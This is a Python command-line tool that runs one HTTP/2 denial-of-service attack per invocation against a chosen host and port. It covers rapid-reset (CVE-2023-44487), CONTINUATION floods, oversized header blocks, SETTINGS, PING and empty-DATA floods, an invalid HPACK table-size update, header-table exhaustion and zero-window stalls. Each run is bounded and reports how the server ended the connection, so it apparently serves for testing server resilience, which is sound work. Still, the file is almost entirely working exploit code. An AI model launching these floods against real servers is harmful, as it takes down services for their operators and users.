"""Attacks on an HTTP/2 server, one per run, each bounded in frames and in seconds; prints how
the connection ended as one JSON line (see peer.Wire.summary) plus the attack's own counts.

Usage: flood.py KIND HOST:PORT [--path P] [--count N] [--seconds S]

KIND:
  rapid-reset     HEADERS then RST_STREAM(CANCEL) on a new stream, COUNT times (CVE-2023-44487)
  continuation    HEADERS without END_HEADERS, then CONTINUATION frames that never end the block
                  (CVE-2024-27316 family)
  huge-header     one 1 MiB header block (HEADERS + 16 KiB CONTINUATIONs)
  settings        COUNT empty SETTINGS frames
  ping            COUNT PING frames, never reading the acks while sending
  empty-data      a POST to PATH, then COUNT empty DATA frames without END_STREAM
  hpack-update    a header block opening with a dynamic table size update to 65,536, above the
                  4,096 of the server's SETTINGS (RFC 7541 §4.2: a decoding error)
  table-size      SETTINGS_HEADER_TABLE_SIZE 2^32-1, then COUNT requests for PATH?i=N, at most
                  50 at once: the server's encoder may not take us at our word without bound
  window-zero     SETTINGS_INITIAL_WINDOW_SIZE 0, then COUNT requests for PATH (a large file),
                  no WINDOW_UPDATE ever; watches for SECONDS
"""
import argparse
import time

import hpack
from hpack.hpack import encode_integer

from peer import (ContinuationFrame, DataFrame, HeadersFrame, PingFrame, SettingCodes,
                  SettingsFrame, Wire, address, client, report, request_headers)

FRAME = 16384  # the default SETTINGS_MAX_FRAME_SIZE, which the server keeps


def until_over(wire):
    return lambda: wire.ending is not None or wire.goaway is not None


def rapid_reset(wire, args):
    conn = client()
    if not wire.handshake(conn):
        return {"error": "no SETTINGS from the server"}
    deadline = time.monotonic() + args.seconds
    pairs, sid = 0, 1
    headers = request_headers(wire.authority, args.path)
    while pairs < args.count and time.monotonic() < deadline and not until_over(wire)():
        for _ in range(50):
            conn.send_headers(sid, headers, end_stream=True)
            conn.reset_stream(sid)  # CANCEL
            sid += 2
            pairs += 1
        if not wire.send(conn.data_to_send(), deadline):
            break
        wire.read(0)
    wire.read_until(until_over(wire), 5)
    wire.drain(1.0)
    return {"pairs_sent": pairs}


def header_block(fields):
    """A header block of literal fields never indexed, no Huffman coding: its size is the
    sum of the fields' sizes, and it leaves no trace in the server's dynamic table."""
    enc = hpack.Encoder()
    return enc.encode([hpack.NeverIndexedHeaderTuple(n, v) for n, v in fields], huffman=False)


def continuation(wire, args):
    conn = client()
    if not wire.handshake(conn):
        return {"error": "no SETTINGS from the server"}
    deadline = time.monotonic() + args.seconds
    first = header_block(request_headers(wire.authority, args.path))
    frame = HeadersFrame(1, data=first, flags=["END_STREAM"])  # no END_HEADERS
    wire.send(frame.serialize(), deadline)
    sent = 0
    while sent < args.count and time.monotonic() < deadline and not until_over(wire)():
        batch = bytearray()
        for _ in range(20):
            piece = header_block([("x-more-%d" % sent, "c" * 64)])
            batch += ContinuationFrame(1, data=piece).serialize()
            sent += 1
        if not wire.send(bytes(batch), deadline):
            break
        wire.read(0)
    wire.read_until(until_over(wire), 5)
    wire.drain(1.0)
    return {"continuations_sent": sent}


def huge_header(wire, args):
    conn = client()
    if not wire.handshake(conn):
        return {"error": "no SETTINGS from the server"}
    deadline = time.monotonic() + args.seconds
    fields = request_headers(wire.authority, args.path)
    fields += [("x-huge-%04d" % i, "h" * 1000) for i in range(1040)]
    block = header_block(fields)
    pieces = [block[i:i + FRAME] for i in range(0, len(block), FRAME)]
    frames = 0
    for i, piece in enumerate(pieces):
        if until_over(wire)() or time.monotonic() > deadline:
            break
        flags = ["END_HEADERS"] if i == len(pieces) - 1 else []
        f = HeadersFrame(1, data=piece, flags=flags + ["END_STREAM"]) if i == 0 else ContinuationFrame(1, data=piece, flags=flags)
        if not wire.send(f.serialize(), deadline):
            break
        frames += 1
        wire.read(0)
    wire.read_until(until_over(wire), 5)
    wire.drain(1.0)
    return {"block_bytes": len(block), "frames_sent": frames, "frames_in_block": len(pieces)}


def settings_flood(wire, args):
    conn = client()
    if not wire.handshake(conn):
        return {"error": "no SETTINGS from the server"}
    deadline = time.monotonic() + args.seconds
    one = SettingsFrame(0).serialize()
    sent = 0
    while sent < args.count and time.monotonic() < deadline and not until_over(wire)():
        if not wire.send(one * 100, deadline):
            break
        sent += 100
        wire.read(0)
    wire.read_until(until_over(wire), 5)
    wire.drain(1.0)
    return {"settings_sent": sent}


def ping_flood(wire, args):
    conn = client()
    if not wire.handshake(conn):
        return {"error": "no SETTINGS from the server"}
    # Nothing is read while the PINGs go out: the acks pile up in the server's queue and in the
    # sockets' buffers until the server stops reading us or ends the connection.
    deadline = time.monotonic() + args.seconds
    sent = 0
    while sent < args.count and time.monotonic() < deadline and wire.ending is None:
        batch = b"".join(PingFrame(0, opaque_data=(sent + i).to_bytes(8, "big")).serialize() for i in range(100))
        if not wire.send(batch, deadline, read_meanwhile=False):
            break
        sent += 100
    blocked = wire.ending is None and sent < args.count
    wire.read_until(until_over(wire), 5)
    wire.drain(1.0)
    return {"pings_sent": sent, "writes_blocked": blocked}


def empty_data(wire, args):
    conn = client()
    if not wire.handshake(conn):
        return {"error": "no SETTINGS from the server"}
    deadline = time.monotonic() + args.seconds
    conn.send_headers(1, request_headers(wire.authority, args.path, "POST"), end_stream=False)
    wire.send(conn.data_to_send(), deadline)
    one = DataFrame(1, data=b"").serialize()
    sent = 0
    while sent < args.count and time.monotonic() < deadline and not until_over(wire)():
        if not wire.send(one * 100, deadline):
            break
        sent += 100
        wire.read(0)
    wire.read_until(until_over(wire), 5)
    wire.drain(1.0)
    return {"empty_data_sent": sent}


def hpack_update(wire, args):
    conn = client()
    if not wire.handshake(conn):
        return {"error": "no SETTINGS from the server"}
    deadline = time.monotonic() + args.seconds
    update = encode_integer(65536, 5)
    update[0] |= 0x20  # 001xxxxx: Dynamic Table Size Update (RFC 7541 §6.3)
    block = bytes(update) + header_block(request_headers(wire.authority, args.path))
    wire.send(HeadersFrame(1, data=block, flags=["END_HEADERS", "END_STREAM"]).serialize(), deadline)
    wire.read_until(until_over(wire), 5)
    wire.drain(1.0)
    return {"table_size_update": 65536}


def table_size(wire, args):
    wire.decoder.max_allowed_table_size = (1 << 32) - 1
    # Windows wide open, so that nothing here waits on flow control.
    conn = client({SettingCodes.HEADER_TABLE_SIZE: (1 << 32) - 1, SettingCodes.INITIAL_WINDOW_SIZE: 1 << 30})
    if not wire.handshake(conn):
        return {"error": "no SETTINGS from the server"}
    conn.increment_flow_control_window(1 << 30)
    deadline = time.monotonic() + args.seconds
    sid, asked, largest = 1, 0, 0
    while asked < args.count and time.monotonic() < deadline and wire.ending is None and wire.goaway is None:
        open_now = asked - len(wire.ended) - len(wire.resets)
        while open_now < 50 and asked < args.count:
            sep = "&" if "?" in args.path else "?"
            conn.send_headers(sid, request_headers(wire.authority, "%s%si=%d" % (args.path, sep, asked)), end_stream=True)
            sid += 2
            asked += 1
            open_now += 1
        wire.send(conn.data_to_send(), deadline)
        wire.read(0.05)
        largest = max(largest, wire.decoder.header_table._current_size)
    wire.read_until(lambda: len(wire.ended) + len(wire.resets) >= asked, 10)
    largest = max(largest, wire.decoder.header_table._current_size)
    return {"requests": asked, "answered": len(wire.ended), "decoder_table_bytes_max": largest,
            "advertised_header_table_size": (1 << 32) - 1}


def window_zero(wire, args):
    conn = client({SettingCodes.INITIAL_WINDOW_SIZE: 0})
    if not wire.handshake(conn):
        return {"error": "no SETTINGS from the server"}
    deadline = time.monotonic() + 5
    for i in range(args.count):
        conn.send_headers(1 + 2 * i, request_headers(wire.authority, args.path), end_stream=True)
    wire.send(conn.data_to_send(), deadline)
    start = time.monotonic()
    wire.read_until(lambda: len(wire.statuses) >= args.count, 5)
    heads = time.monotonic() - start
    # Now only watch: no WINDOW_UPDATE will ever come from us.
    wire.read_until(until_over(wire), args.seconds)
    ended_after = round(time.monotonic() - start, 3) if (wire.ending or wire.goaway) else None
    wire.drain(1.0)
    return {"requests": args.count, "heads_within_s": round(heads, 3), "ended_after_s": ended_after,
            "watched_s": args.seconds}


KINDS = {
    "rapid-reset": rapid_reset,
    "continuation": continuation,
    "huge-header": huge_header,
    "settings": settings_flood,
    "ping": ping_flood,
    "empty-data": empty_data,
    "hpack-update": hpack_update,
    "table-size": table_size,
    "window-zero": window_zero,
}


def main():
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    p.add_argument("kind", choices=sorted(KINDS))
    p.add_argument("addr", type=address)
    p.add_argument("--path", default="/")
    p.add_argument("--count", type=int, default=10000)
    p.add_argument("--seconds", type=float, default=10.0)
    args = p.parse_args()
    wire = Wire(args.addr)
    t0 = time.monotonic()
    extra = KINDS[args.kind](wire, args)
    extra["kind"] = args.kind
    extra["elapsed_s"] = round(time.monotonic() - t0, 3)
    report(wire.summary(**extra))


if __name__ == "__main__":
    main()
